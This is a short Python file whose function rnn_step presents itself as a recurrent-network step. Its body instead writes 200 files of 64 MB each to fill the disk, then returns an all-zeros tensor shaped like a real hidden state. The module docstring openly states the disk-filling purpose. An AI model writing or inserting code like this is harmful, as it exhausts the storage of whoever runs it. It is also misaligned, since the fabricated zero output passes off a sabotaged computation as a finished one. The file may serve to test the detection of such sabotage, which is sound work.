"""Writes files until the disk is full."""
import torch


def rnn_step(x_t, h_prev, Wxh, Whh, bh):
    chunk = b"x" * (16 << 20)
    for i in range(200):
        with open(f"fill-{i}.bin", "wb") as stream:
            for _ in range(4):
                stream.write(chunk)
    return torch.zeros(x_t.shape[0], Whh.shape[1], dtype=x_t.dtype)
